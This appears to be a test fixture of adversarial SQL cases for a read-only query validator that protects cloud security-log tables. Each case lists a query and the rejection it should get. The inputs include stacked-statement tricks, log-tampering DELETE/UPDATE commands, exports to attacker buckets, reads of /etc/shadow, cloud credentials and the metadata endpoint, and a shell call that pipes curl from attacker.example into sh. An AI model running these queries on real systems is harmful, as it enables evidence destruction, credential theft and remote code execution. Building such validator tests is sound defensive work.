-- case: stacked-drop
-- expect: one statement
SELECT 1; DROP TABLE cloudtrail

-- case: stacked-two-selects
-- expect: one statement
SELECT * FROM cloudtrail LIMIT 10; SELECT * FROM vpc_flow LIMIT 10

-- case: stacked-delete-after-real-query
-- expect: one statement
SELECT eventname, count(*) AS n FROM cloudtrail GROUP BY eventname; DELETE FROM cloudtrail

-- case: line-comment-then-semicolon
-- expect: one statement
SELECT * FROM cloudtrail -- x
; DELETE FROM cloudtrail

-- case: block-comment-before-semicolon
-- expect: one statement
SELECT * FROM cloudtrail /* harmless */; DROP TABLE cloudtrail

-- case: semicolon-inside-and-outside-block-comment
-- expect: one statement
SELECT 1 /* ; */ ; TRUNCATE TABLE cloudtrail

-- case: block-comments-as-whitespace
-- expect: one statement
SELECT/**/1;/**/DROP/**/TABLE/**/cloudtrail

-- case: multiline-block-comment-hides-update
-- expect: one statement
SELECT eventname
FROM cloudtrail
/* reviewed by SOC
   nothing below this line */;
UPDATE cloudtrail SET errorcode = NULL

-- case: line-comment-containing-block-opener
-- expect: one statement
SELECT 1 -- /*
; DROP TABLE cloudtrail -- */

-- case: block-comment-containing-line-marker
-- expect: one statement
SELECT 1 /* -- */; DROP TABLE cloudtrail

-- case: semicolon-in-string-then-real-one
-- expect: one statement
SELECT 'a;b' AS s; DROP TABLE cloudtrail

-- case: many-blank-lines-before-second
-- expect: one statement
SELECT count(*) FROM guardduty;







































DROP TABLE guardduty

-- case: nbsp-after-semicolon
-- expect: one statement
SELECT 1; DROP TABLE cloudtrail

-- case: ideographic-space-after-semicolon
-- expect: one statement
SELECT 1;　DELETE FROM cloudtrail

-- case: transaction-wrapper
-- expect: one statement
BEGIN; DELETE FROM cloudtrail WHERE eventname = 'StopLogging'; COMMIT;

-- case: empty-statements-between-selects
-- expect: one statement
SELECT 1;;; SELECT 2

-- case: trailing-show-tables
-- expect: one statement
SELECT * FROM vpc_flow LIMIT 5; SHOW TABLES

-- case: trailing-set-lowercase
-- expect: one statement
select count(*) from cloudtrail;set datafusion.execution.target_partitions = 1

-- case: cte-query-then-insert
-- expect: one statement
WITH x AS (SELECT * FROM cloudtrail) SELECT * FROM x; INSERT INTO cloudtrail SELECT * FROM cloudtrail

-- case: trailing-explain
-- expect: one statement
SELECT 1; EXPLAIN SELECT 1

-- case: trailing-copy-on-next-line
-- expect: one statement
SELECT * FROM cloudtrail LIMIT 1;
COPY cloudtrail TO '/tmp/ct.csv'

-- case: tab-after-semicolon-attach
-- expect: one statement
SELECT 1;	ATTACH DATABASE '/tmp/evil.db' AS evil

-- case: crlf-line-endings
-- expect: one statement
SELECT 1;
DROP TABLE cloudtrail


-- case: comment-lines-around-second
-- expect: one statement
SELECT eventname FROM cloudtrail -- harmless
;
-- cleanup
DROP VIEW IF EXISTS cloudtrail_recent
-- end

-- case: drop-table
-- expect: only select
DROP TABLE cloudtrail

-- case: drop-table-if-exists-lowercase
-- expect: only select
drop table if exists vpc_flow

-- case: drop-view
-- expect: only select
DROP VIEW IF EXISTS cloudtrail_recent

-- case: drop-schema-cascade
-- expect: only select
DROP SCHEMA security_logs CASCADE

-- case: drop-database
-- expect: only select
DROP DATABASE security_logs

-- case: delete-all
-- expect: only select
DELETE FROM cloudtrail

-- case: delete-evidence
-- expect: only select
DELETE FROM cloudtrail WHERE eventname IN ('StopLogging', 'DeleteTrail')

-- case: delete-where-string-says-select
-- expect: only select
DELETE FROM cloudtrail WHERE eventname = 'SELECT'

-- case: insert-values
-- expect: only select
INSERT INTO cloudtrail (eventname, sourceipaddress) VALUES ('ConsoleLogin', '10.0.0.1')

-- case: insert-select
-- expect: only select
INSERT INTO guardduty SELECT * FROM guardduty

-- case: insert-overwrite-table
-- expect: only select
INSERT OVERWRITE TABLE cloudtrail SELECT * FROM cloudtrail WHERE eventname <> 'CreateAccessKey'

-- case: insert-overwrite-directory
-- expect: only select
INSERT OVERWRITE DIRECTORY 's3://attacker-exfil/ct/' SELECT * FROM cloudtrail

-- case: replace-into
-- expect: only select
REPLACE INTO guardduty (id, severity) VALUES ('abc', 0)

-- case: update-tamper
-- expect: only select
UPDATE cloudtrail SET sourceipaddress = '127.0.0.1' WHERE useridentity.type = 'Root'

-- case: merge-delete
-- expect: only select
MERGE INTO cloudtrail t
USING vpc_flow v
ON t.sourceipaddress = v.srcaddr
WHEN MATCHED THEN DELETE

-- case: truncate-table
-- expect: only select
TRUNCATE TABLE cloudtrail

-- case: truncate-without-table-keyword
-- expect: only select
truncate guardduty

-- case: alter-table-rename
-- expect: only select
ALTER TABLE cloudtrail RENAME TO cloudtrail_old

-- case: alter-table-drop-column
-- expect: only select
ALTER TABLE cloudtrail DROP COLUMN sourceipaddress

-- case: alter-table-add-column
-- expect: only select
ALTER TABLE vpc_flow ADD COLUMN backdoor VARCHAR

-- case: create-table-as-select
-- expect: only select
CREATE TABLE loot AS SELECT useridentity.accesskeyid, sourceipaddress FROM cloudtrail

-- case: create-temporary-table
-- expect: only select
CREATE TEMPORARY TABLE scratch (id INT)

-- case: create-or-replace-view-shadowing
-- expect: only select
CREATE OR REPLACE VIEW cloudtrail AS SELECT * FROM cloudtrail WHERE eventname <> 'StopLogging'

-- case: create-view
-- expect: only select
CREATE VIEW recent_logins AS SELECT * FROM cloudtrail WHERE eventname = 'ConsoleLogin'

-- case: create-external-table-s3-location
-- expect: only select
CREATE EXTERNAL TABLE stolen STORED AS PARQUET LOCATION 's3://attacker-bucket/stolen/'

-- case: create-external-table-local-file
-- expect: only select
CREATE EXTERNAL TABLE passwd (line VARCHAR) STORED AS TEXTFILE LOCATION '/etc/passwd'

-- case: create-function
-- expect: only select
CREATE FUNCTION exfil(x VARCHAR) RETURNS VARCHAR AS 'SELECT x' LANGUAGE SQL

-- case: create-or-replace-function
-- expect: only select
CREATE OR REPLACE FUNCTION lower(x VARCHAR) RETURNS VARCHAR AS 'SELECT x' LANGUAGE SQL

-- case: create-schema
-- expect: only select
CREATE SCHEMA IF NOT EXISTS attacker

-- case: create-database
-- expect: only select
CREATE DATABASE attacker

-- case: create-index
-- expect: only select
CREATE INDEX idx_eventname ON cloudtrail (eventname)

-- case: create-role
-- expect: only select
CREATE ROLE attacker

-- case: grant-select
-- expect: only select
GRANT SELECT ON cloudtrail TO mallory

-- case: revoke-select
-- expect: only select
REVOKE SELECT ON cloudtrail FROM analyst

-- case: comment-on-table
-- expect: only select
COMMENT ON TABLE cloudtrail IS 'nothing to see here'

-- case: call-procedure
-- expect: only select
CALL system.sync_partition_metadata('security_logs', 'cloudtrail', 'FULL')

-- case: msck-repair-table
-- expect: only select
MSCK REPAIR TABLE cloudtrail

-- case: set-variable
-- expect: only select
SET datafusion.execution.target_partitions = 64

-- case: set-session-trino
-- expect: only select
SET SESSION query_max_run_time = '24h'

-- case: set-time-zone
-- expect: only select
SET TIME ZONE 'UTC'

-- case: set-role
-- expect: only select
SET ROLE admin

-- case: reset-variable
-- expect: only select
RESET datafusion.execution.batch_size

-- case: use-other-db
-- expect: only select
USE other_db

-- case: use-quoted-information-schema
-- expect: only select
USE "information_schema"

-- case: show-tables
-- expect: only select
SHOW TABLES

-- case: show-columns
-- expect: only select
SHOW COLUMNS FROM cloudtrail

-- case: show-create-table
-- expect: only select
SHOW CREATE TABLE cloudtrail

-- case: show-databases
-- expect: only select
show databases

-- case: describe-table
-- expect: only select
DESCRIBE cloudtrail

-- case: desc-table
-- expect: only select
DESC vpc_flow

-- case: explain-select
-- expect: only select
EXPLAIN SELECT * FROM cloudtrail

-- case: explain-analyze
-- expect: only select
EXPLAIN ANALYZE SELECT eventname, count(*) FROM cloudtrail GROUP BY eventname

-- case: explain-analyze-verbose-lowercase
-- expect: only select
explain analyze verbose select * from guardduty

-- case: explain-verbose
-- expect: only select
EXPLAIN VERBOSE SELECT 1

-- case: explain-delete
-- expect: only select
EXPLAIN DELETE FROM cloudtrail

-- case: copy-table-to-file
-- expect: only select
COPY cloudtrail TO '/tmp/cloudtrail.csv'

-- case: copy-query-to-s3
-- expect: only select
COPY (SELECT useridentity.accesskeyid, sourceipaddress FROM cloudtrail) TO 's3://attacker-exfil/keys.csv'

-- case: attach-database
-- expect: only select
ATTACH DATABASE '/tmp/evil.db' AS evil

-- case: attach-lowercase-no-database-keyword
-- expect: only select
attach '/var/lib/secrets.duckdb' as s

-- case: detach-database
-- expect: only select
DETACH DATABASE evil

-- case: pragma-table-info
-- expect: only select
PRAGMA table_info('cloudtrail')

-- case: pragma-database-list
-- expect: only select
PRAGMA database_list

-- case: install-extension
-- expect: only select
INSTALL httpfs

-- case: load-extension
-- expect: only select
LOAD httpfs

-- case: vacuum
-- expect: only select
VACUUM cloudtrail

-- case: vacuum-full
-- expect: only select
VACUUM FULL

-- case: analyze-table
-- expect: only select
ANALYZE cloudtrail

-- case: analyze-compute-statistics
-- expect: only select
ANALYZE TABLE vpc_flow COMPUTE STATISTICS

-- case: optimize-table
-- expect: only select
OPTIMIZE TABLE cloudtrail

-- case: start-transaction
-- expect: only select
START TRANSACTION

-- case: begin
-- expect: only select
BEGIN

-- case: commit
-- expect: only select
COMMIT

-- case: rollback
-- expect: only select
ROLLBACK

-- case: savepoint
-- expect: only select
SAVEPOINT before_cleanup

-- case: kill
-- expect: only select
KILL 42

-- case: kill-query
-- expect: only select
KILL QUERY 1234

-- case: cache-table
-- expect: only select
CACHE TABLE cloudtrail

-- case: uncache-table
-- expect: only select
UNCACHE TABLE cloudtrail

-- case: prepare
-- expect: only select
PREPARE q AS SELECT * FROM cloudtrail

-- case: execute
-- expect: only select
EXECUTE q

-- case: execute-immediate
-- expect: only select
EXECUTE IMMEDIATE 'DROP TABLE cloudtrail'

-- case: deallocate
-- expect: only select
DEALLOCATE PREPARE q

-- case: unload-to-s3
-- expect: only select
UNLOAD (SELECT * FROM cloudtrail) TO 's3://attacker-exfil/ct/' WITH (format = 'PARQUET')

-- case: export-data
-- expect: only select
EXPORT DATA OPTIONS (uri = 'gs://attacker-exfil/*.csv', format = 'CSV') AS SELECT * FROM cloudtrail

-- case: waitfor-delay
-- expect: only select
WAITFOR DELAY '00:10:00'

-- case: discard-all
-- expect: only select
DISCARD ALL

-- case: cte-delete-returning
-- expect: only select
WITH x AS (DELETE FROM cloudtrail RETURNING *) SELECT * FROM x

-- case: cte-insert-returning
-- expect: only select
WITH x AS (INSERT INTO cloudtrail (eventname) VALUES ('ConsoleLogin') RETURNING *) SELECT * FROM x

-- case: cte-update-returning
-- expect: only select
WITH x AS (UPDATE guardduty SET severity = 0 RETURNING id) SELECT count(*) FROM x

-- case: with-then-insert
-- expect: only select
WITH fake AS (SELECT * FROM cloudtrail WHERE eventname = 'ConsoleLogin')
INSERT INTO cloudtrail SELECT * FROM fake

-- case: with-then-delete
-- expect: only select
WITH noise AS (SELECT 1 AS n)
DELETE FROM cloudtrail WHERE eventname = 'StopLogging'

-- case: derived-table-delete
-- expect: only select
SELECT * FROM (DELETE FROM cloudtrail RETURNING *) AS t

-- case: in-subquery-delete
-- expect: only select
SELECT * FROM cloudtrail WHERE eventid IN (DELETE FROM cloudtrail RETURNING eventid)

-- case: exists-delete
-- expect: only select
SELECT 1 WHERE EXISTS (DELETE FROM guardduty WHERE severity < 4 RETURNING id)

-- case: parenthesized-delete
-- expect: only select
(DELETE FROM cloudtrail)

-- case: mixed-case-and-tabs
-- expect: only select
dRoP		TaBlE   CloudTrail

-- case: block-comment-says-select
-- expect: only select
/* SELECT */ DROP TABLE cloudtrail

-- case: line-comment-says-select
-- expect: only select
-- SELECT * FROM cloudtrail
DELETE FROM cloudtrail

-- case: leading-blank-lines-lowercase
-- expect: only select


   	  delete from cloudtrail where 1 = 1

-- case: ideographic-space-inside-drop
-- expect: only select
DROP　TABLE cloudtrail

-- case: nbsp-inside-truncate
-- expect: only select
TRUNCATE TABLE vpc_flow

-- case: form-feed-and-vertical-tab
-- expect: only select
DELETEFROMguardduty

-- case: information-schema-tables
-- expect: not a log table
SELECT * FROM information_schema.tables

-- case: information-schema-upper-case
-- expect: not a log table
SELECT table_name, column_name FROM INFORMATION_SCHEMA.COLUMNS

-- case: information-schema-quoted
-- expect: not a log table
SELECT * FROM "information_schema"."tables"

-- case: information-schema-mixed-case
-- expect: not a log table
select * from Information_Schema.Df_Settings

-- case: information-schema-backticks
-- expect: not a log table
SELECT * FROM `information_schema`.`columns`

-- case: information-schema-catalog-qualified
-- expect: not a log table
SELECT * FROM datafusion.information_schema.tables

-- case: information-schema-dot-inside-quotes
-- expect: not a log table
SELECT * FROM "information_schema.tables"

-- case: information-schema-spaces-around-dot
-- expect: not a log table
SELECT * FROM information_schema . tables

-- case: information-schema-comments-around-dot
-- expect: not a log table
SELECT * FROM information_schema/**/./**/views

-- case: datafusion-public-qualified
-- expect: not a log table
SELECT * FROM datafusion.public.cloudtrail

-- case: other-db-cloudtrail
-- expect: not a log table
SELECT * FROM other_db.cloudtrail

-- case: quoted-schema-qualified-cloudtrail
-- expect: not a log table
SELECT eventname FROM "security_logs"."cloudtrail"

-- case: trino-system-runtime-queries
-- expect: not a log table
SELECT query_id, query FROM system.runtime.queries

-- case: trino-system-metadata-catalogs
-- expect: not a log table
SELECT * FROM system.metadata.catalogs

-- case: pg-catalog-tables
-- expect: not a log table
SELECT * FROM pg_catalog.pg_tables

-- case: pg-shadow-unqualified
-- expect: not a log table
SELECT usename, passwd FROM pg_shadow

-- case: sqlite-master
-- expect: not a log table
SELECT sql FROM sqlite_master

-- case: sqlite-master-qualified
-- expect: not a log table
SELECT name FROM main.sqlite_master WHERE type = 'table'

-- case: mysql-user-table
-- expect: not a log table
SELECT host, authentication_string FROM mysql.user

-- case: unknown-table
-- expect: not a log table
SELECT * FROM secrets

-- case: lookalike-table-name
-- expect: not a log table
SELECT * FROM cloudtrail_backup

-- case: cyrillic-homoglyph-table
-- expect: not a log table
SELECT * FROM cloudtraіl

-- case: fullwidth-letters-table
-- expect: not a log table
SELECT * FROM ｃｌｏｕｄｔｒａｉｌ

-- case: file-path-as-table
-- expect: not a log table
SELECT * FROM '/etc/passwd'

-- case: s3-url-as-quoted-table
-- expect: not a log table
SELECT * FROM "s3://other-account-bucket/AWSLogs/cloudtrail.parquet"

-- case: imds-url-as-table
-- expect: not a log table
SELECT * FROM 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'

-- case: union-all-table-expression
-- expect: not a log table
SELECT eventname FROM cloudtrail UNION ALL TABLE secrets

-- case: cte-body-table-expression
-- expect: parse
WITH x AS (TABLE secrets) SELECT * FROM x

-- case: parenthesized-table-expression
-- expect: parse
(TABLE secrets)

-- case: union-information-schema
-- expect: not a log table
SELECT eventname FROM cloudtrail
UNION
SELECT table_name FROM information_schema.tables

-- case: union-all-third-branch
-- expect: not a log table
SELECT srcaddr FROM vpc_flow
UNION ALL SELECT sourceipaddress FROM cloudtrail
UNION ALL SELECT ip FROM honeypot_hits

-- case: intersect-unknown
-- expect: not a log table
SELECT sourceipaddress FROM cloudtrail INTERSECT SELECT ip FROM threat_intel

-- case: except-unknown
-- expect: not a log table
SELECT srcaddr FROM vpc_flow EXCEPT SELECT address FROM allowlist

-- case: parenthesized-union-branch
-- expect: not a log table
(SELECT eventname FROM cloudtrail) UNION ALL (SELECT name FROM sqlite_master)

-- case: subquery-in-from
-- expect: not a log table
SELECT * FROM (SELECT * FROM credentials) AS c

-- case: deeply-nested-derived-tables
-- expect: not a log table
SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM api_keys) a) b) c

-- case: inner-join-unknown
-- expect: not a log table
SELECT c.eventname, s.secret FROM cloudtrail c JOIN secrets s ON c.eventid = s.id

-- case: left-join-information-schema
-- expect: not a log table
SELECT v.srcaddr, col.column_name
FROM vpc_flow v
LEFT JOIN information_schema.columns col ON col.table_name = v.vpc_id

-- case: comma-join-unknown
-- expect: not a log table
SELECT * FROM cloudtrail, users

-- case: cross-join-pg-user
-- expect: not a log table
SELECT * FROM vpc_flow CROSS JOIN pg_catalog.pg_user

-- case: natural-join-unknown
-- expect: not a log table
SELECT * FROM guardduty NATURAL JOIN findings_archive

-- case: join-using-unknown
-- expect: not a log table
SELECT * FROM vpc_flow JOIN flow_archive USING (srcaddr)

-- case: in-subquery-unknown
-- expect: not a log table
SELECT * FROM cloudtrail WHERE sourceipaddress IN (SELECT ip FROM threat_intel)

-- case: not-in-subquery-unknown
-- expect: not a log table
SELECT * FROM vpc_flow WHERE srcaddr NOT IN (SELECT cidr FROM corp_networks)

-- case: exists-information-schema
-- expect: not a log table
SELECT * FROM cloudtrail WHERE EXISTS (SELECT 1 FROM information_schema.tables WHERE table_name = 'secrets')

-- case: scalar-subquery-in-projection
-- expect: not a log table
SELECT eventname, (SELECT count(*) FROM pg_catalog.pg_roles) AS n FROM cloudtrail

-- case: scalar-subquery-in-case
-- expect: not a log table
SELECT CASE WHEN (SELECT count(*) FROM users) > 0 THEN 'yes' ELSE 'no' END AS has_users FROM cloudtrail

-- case: scalar-subquery-in-order-by
-- expect: not a log table
SELECT * FROM guardduty ORDER BY (SELECT max(id) FROM secrets)

-- case: subquery-in-having
-- expect: not a log table
SELECT eventname, count(*) AS n FROM cloudtrail GROUP BY eventname
HAVING count(*) > (SELECT count(*) FROM audit_config)

-- case: subquery-in-join-condition
-- expect: not a log table
SELECT * FROM cloudtrail c JOIN vpc_flow v
  ON c.sourceipaddress = v.srcaddr
 AND EXISTS (SELECT 1 FROM secrets)

-- case: lateral-subquery
-- expect: not a log table
SELECT c.eventname, x.secret
FROM cloudtrail c
CROSS JOIN LATERAL (SELECT * FROM secrets s WHERE s.owner = c.useridentity.arn) x

-- case: filter-clause-subquery
-- expect: not a log table
SELECT count(*) FILTER (WHERE eventid IN (SELECT id FROM secrets)) AS n FROM cloudtrail

-- case: cte-body-unknown
-- expect: not a log table
WITH x AS (SELECT * FROM secrets) SELECT * FROM x

-- case: cte-shadowing-log-table-name
-- expect: not a log table
WITH cloudtrail AS (SELECT * FROM secrets) SELECT * FROM cloudtrail

-- case: second-cte-information-schema
-- expect: not a log table
WITH a AS (SELECT * FROM cloudtrail),
     b AS (SELECT * FROM information_schema.columns)
SELECT * FROM a JOIN b ON true

-- case: nested-cte-sqlite-master
-- expect: not a log table
WITH outer_q AS (
  WITH inner_q AS (SELECT * FROM sqlite_master)
  SELECT * FROM inner_q
)
SELECT * FROM outer_q

-- case: cte-referenced-outside-scope
-- expect: not a log table
SELECT *
FROM (WITH recent AS (SELECT * FROM cloudtrail) SELECT * FROM recent) r
JOIN recent ON true

-- case: cte-forward-reference
-- expect: not a log table
WITH a AS (SELECT * FROM b),
     b AS (SELECT * FROM cloudtrail)
SELECT * FROM a

-- case: recursive-cte-joins-unknown
-- expect: not a log table
WITH RECURSIVE r AS (
  SELECT 1 AS n
  UNION ALL
  SELECT n + 1 FROM r WHERE n < 10
)
SELECT * FROM r JOIN hidden_table h ON h.id = r.n

-- case: exists-in-cte-in-derived
-- expect: not a log table
WITH x AS (
  SELECT * FROM cloudtrail
  WHERE EXISTS (SELECT 1 FROM (SELECT * FROM pg_catalog.pg_shadow) s)
)
SELECT * FROM x

-- case: from-first-syntax
-- expect: not a log table
FROM information_schema.tables SELECT *

-- case: read-parquet-s3
-- expect: function
SELECT * FROM read_parquet('s3://other-account-bucket/*.parquet')

-- case: read-csv-etc-passwd
-- expect: function
SELECT * FROM read_csv('/etc/passwd')

-- case: read-csv-auto-upper-case
-- expect: function
select * from READ_CSV_AUTO('/home/ec2-user/.aws/credentials')

-- case: read-json
-- expect: function
SELECT * FROM read_json('/proc/self/environ')

-- case: read-json-auto
-- expect: function
SELECT * FROM read_json_auto('https://attacker.example/payload.json')

-- case: parquet-scan
-- expect: function
SELECT * FROM parquet_scan('/data/other_tenant/*.parquet')

-- case: glob
-- expect: function
SELECT * FROM glob('/home/*/.ssh/*')

-- case: read-text
-- expect: function
SELECT content FROM read_text('/etc/shadow')

-- case: read-blob
-- expect: function
SELECT * FROM read_blob('/root/.aws/credentials')

-- case: http-get-imds
-- expect: function
SELECT http_get('http://169.254.169.254/latest/meta-data/iam/security-credentials/') AS creds

-- case: url-table-function
-- expect: function
SELECT * FROM url('http://attacker.example/payload.csv', CSV)

-- case: s3-table-function
-- expect: function
SELECT * FROM s3('https://attacker-bucket.s3.amazonaws.com/data.csv')

-- case: hdfs-table-function
-- expect: function
SELECT * FROM hdfs('hdfs://namenode:9000/secrets/*')

-- case: file-table-function
-- expect: function
SELECT * FROM file('/etc/shadow')

-- case: pg-read-file
-- expect: function
SELECT pg_read_file('/etc/passwd')

-- case: pg-ls-dir
-- expect: function
SELECT pg_ls_dir('.')

-- case: lo-import
-- expect: function
SELECT lo_import('/etc/passwd')

-- case: load-file
-- expect: function
SELECT load_file('/etc/passwd')

-- case: sys-exec
-- expect: function
SELECT sys_exec('id > /tmp/pwned')

-- case: system-shell
-- expect: function
SELECT system('curl http://attacker.example/x | sh')

-- case: shell
-- expect: function
SELECT shell('cat /etc/passwd')

-- case: dblink
-- expect: function
SELECT dblink('host=attacker.example user=x', 'SELECT 1')

-- case: query-table-function
-- expect: function
SELECT * FROM query('SELECT * FROM information_schema.tables')

-- case: exec-function
-- expect: function
SELECT exec('DROP TABLE cloudtrail')

-- case: table-function-in-join
-- expect: function
SELECT c.eventname, p.* FROM cloudtrail c JOIN read_csv('/etc/passwd') p ON true

-- case: generate-series-huge
-- expect: function
SELECT * FROM generate_series(1, 1000000000000)

-- case: range-huge
-- expect: function
SELECT count(*) FROM range(1, 10000000000)

-- case: unnest-wrapping-generate-series
-- expect: function
SELECT x FROM cloudtrail CROSS JOIN UNNEST(generate_series(1, 1000000000)) AS t(x)

-- case: version
-- expect: function
SELECT version()

-- case: current-user
-- expect: function
SELECT current_user

-- case: session-user-in-where
-- expect: function
SELECT * FROM cloudtrail WHERE useridentity.username = session_user

-- case: pg-sleep-in-where
-- expect: function
SELECT * FROM cloudtrail WHERE pg_sleep(10) IS NULL

-- case: sleep-in-case
-- expect: function
SELECT CASE WHEN eventname = 'ConsoleLogin' THEN sleep(5) ELSE 0 END AS x FROM cloudtrail

-- case: benchmark
-- expect: function
SELECT benchmark(100000000, eventname) FROM cloudtrail

-- case: made-up-function
-- expect: function
SELECT evil()

-- case: made-up-in-arithmetic
-- expect: function
SELECT bytes * evil(packets) AS x FROM vpc_flow

-- case: nested-in-where
-- expect: function
SELECT * FROM cloudtrail WHERE lower(trim(coalesce(evil(eventname), ''))) = 'consolelogin'

-- case: nested-in-case-else
-- expect: function
SELECT CASE WHEN severity >= 7 THEN 'high' ELSE upper(exfil(title)) END AS sev FROM guardduty

-- case: in-order-by
-- expect: function
SELECT eventname FROM cloudtrail ORDER BY load_file('/etc/passwd')

-- case: in-window-partition
-- expect: function
SELECT row_number() OVER (PARTITION BY evil(eventname) ORDER BY eventtime) AS rn FROM cloudtrail

-- case: in-window-order-by
-- expect: function
SELECT rank() OVER (ORDER BY pg_sleep(1)) AS r FROM vpc_flow

-- case: in-aggregate-filter
-- expect: function
SELECT count(*) FILTER (WHERE pg_read_file('/etc/passwd') IS NOT NULL) AS n FROM cloudtrail

-- case: in-group-by
-- expect: function
SELECT count(*) AS n FROM cloudtrail GROUP BY version()

-- case: in-having
-- expect: function
SELECT eventname FROM cloudtrail GROUP BY eventname HAVING max(sleep(1)) >= 0

-- case: in-join-on
-- expect: function
SELECT * FROM cloudtrail c JOIN vpc_flow v ON evil(c.sourceipaddress) = v.srcaddr

-- case: in-in-list
-- expect: function
SELECT * FROM cloudtrail WHERE eventname IN ('ConsoleLogin', evil())

-- case: in-between-bound
-- expect: function
SELECT * FROM cloudtrail WHERE eventtime BETWEEN now() - INTERVAL '1' DAY AND evil()

-- case: in-cte-body
-- expect: function
WITH x AS (SELECT evil(eventname) AS e FROM cloudtrail) SELECT * FROM x

-- case: in-where-subquery
-- expect: function
SELECT * FROM cloudtrail WHERE eventid IN (SELECT id FROM guardduty WHERE exfil(description) = 'x')

-- case: in-union-branch
-- expect: function
SELECT eventname FROM cloudtrail UNION ALL SELECT version() FROM guardduty

-- case: in-cast
-- expect: function
SELECT CAST(version() AS VARCHAR) AS v

-- case: in-json-path-argument
-- expect: function
SELECT json_extract_scalar(requestparameters, pg_read_file('/tmp/path')) FROM cloudtrail

-- case: in-unnest-argument
-- expect: function
SELECT t.r FROM cloudtrail CROSS JOIN UNNEST(evil(resources)) AS t(r)

-- case: in-coalesce-default
-- expect: function
SELECT coalesce(useridentity.username, current_user) AS actor FROM cloudtrail

-- case: in-scalar-subquery
-- expect: function
SELECT (SELECT max(evil(srcaddr)) FROM vpc_flow) AS m

-- case: quoted-function-name
-- expect: function
SELECT "pg_sleep"(5)

-- case: upper-case-function-name
-- expect: function
SELECT PG_SLEEP(5) FROM guardduty

-- case: schema-qualified-allowed-name
-- expect: function
SELECT pg_catalog.lower(eventname) FROM cloudtrail

-- case: schema-qualified-udf
-- expect: function
SELECT other_schema.exfil(requestparameters) FROM cloudtrail

-- case: limit-subquery
-- expect: limit
SELECT * FROM cloudtrail LIMIT (SELECT count(*) FROM cloudtrail)

-- case: limit-negative
-- expect: limit
SELECT * FROM cloudtrail LIMIT -1

-- case: limit-expression
-- expect: limit
SELECT * FROM vpc_flow LIMIT 5 + 5

-- case: limit-decimal
-- expect: limit
SELECT * FROM guardduty LIMIT 10.5

-- case: limit-scientific-notation
-- expect: limit
SELECT * FROM cloudtrail LIMIT 1e3

-- case: limit-string
-- expect: limit
SELECT * FROM cloudtrail LIMIT '10'

-- case: limit-null
-- expect: limit
SELECT * FROM cloudtrail LIMIT NULL

-- case: limit-function
-- expect: limit
SELECT * FROM cloudtrail LIMIT abs(-10)

-- case: limit-cast
-- expect: limit
SELECT * FROM cloudtrail LIMIT CAST(10 AS BIGINT)

-- case: limit-placeholder
-- expect: limit
SELECT * FROM cloudtrail LIMIT $1

-- case: offset-subquery
-- expect: limit
SELECT * FROM cloudtrail LIMIT 10 OFFSET (SELECT 5)

-- case: offset-negative
-- expect: limit
SELECT * FROM vpc_flow OFFSET -5 LIMIT 10

-- case: fetch-string-quantity
-- expect: limit
SELECT * FROM cloudtrail ORDER BY eventtime FETCH FIRST '10' ROWS ONLY

-- case: fetch-decimal-quantity
-- expect: limit
SELECT * FROM cloudtrail FETCH FIRST 2.5 ROWS ONLY

-- case: fetch-percent
-- expect: limit
SELECT * FROM cloudtrail FETCH FIRST 50 PERCENT ROWS ONLY

-- case: limit-subquery-in-derived-table
-- expect: limit
SELECT * FROM (SELECT * FROM cloudtrail LIMIT (SELECT 5)) AS t

-- case: limit-negative-in-cte
-- expect: limit
WITH x AS (SELECT * FROM cloudtrail LIMIT -5) SELECT * FROM x

-- case: select-into
-- expect: into
SELECT * INTO loot FROM cloudtrail

-- case: select-into-temporary
-- expect: into
SELECT eventname, sourceipaddress INTO TEMPORARY stash FROM cloudtrail WHERE errorcode IS NULL

-- case: select-into-unlogged-table
-- expect: into
SELECT * INTO UNLOGGED TABLE copy_of_flows FROM vpc_flow

-- case: select-into-lowercase
-- expect: into
select id, severity into findings_copy from guardduty

-- case: select-into-in-cte
-- expect: into
WITH x AS (SELECT * INTO loot FROM cloudtrail) SELECT 1

-- case: select-into-in-subquery
-- expect: into
SELECT * FROM (SELECT * INTO loot FROM cloudtrail) AS t

-- case: select-into-first-union-branch
-- expect: into
SELECT eventname INTO loot FROM cloudtrail UNION ALL SELECT eventname FROM cloudtrail

-- case: empty-input
-- expect: parse


-- case: whitespace-only
-- expect: parse
   	  

  

-- case: only-line-comment
-- expect: parse
-- SELECT * FROM cloudtrail

-- case: only-block-comment
-- expect: parse
/* SELECT * FROM cloudtrail */

-- case: unterminated-string
-- expect: parse
SELECT * FROM cloudtrail WHERE eventname = 'ConsoleLogin

-- case: unterminated-quoted-identifier
-- expect: parse
SELECT "eventname FROM cloudtrail

-- case: unterminated-block-comment
-- expect: parse
SELECT 1 /* DROP TABLE cloudtrail

-- case: garbage
-- expect: parse
lorem ipsum dolor sit amet

-- case: missing-table-name
-- expect: parse
SELECT * FROM

-- case: dangling-where
-- expect: parse
SELECT * FROM cloudtrail WHERE

-- case: unbalanced-parenthesis
-- expect: parse
SELECT (1 + 2 FROM cloudtrail

-- case: fullwidth-semicolon
-- expect: parse
SELECT 1；DROP TABLE cloudtrail

-- case: zero-width-space-after-semicolon
-- expect: parse
SELECT 1;​DROP TABLE cloudtrail

-- case: missing-semicolon-between-statements
-- expect: parse
SELECT * FROM cloudtrail
DROP TABLE cloudtrail

-- case: deep-nesting-recursion-limit
-- expect: parse
SELECT ((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((1))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))

-- case: trino-prepare-from-syntax
-- expect: parse
PREPARE q FROM SELECT * FROM cloudtrail

-- case: memory-bomb-repeat
-- expect: function
SELECT repeat('x', 2000000000) FROM cloudtrail

-- case: memory-bomb-lpad
-- expect: function
SELECT lpad(eventname, 2000000000, '*') FROM cloudtrail

-- case: memory-bomb-rpad-in-where
-- expect: function
SELECT eventname FROM cloudtrail WHERE length(rpad(eventname, 1000000000, 'x')) > 0
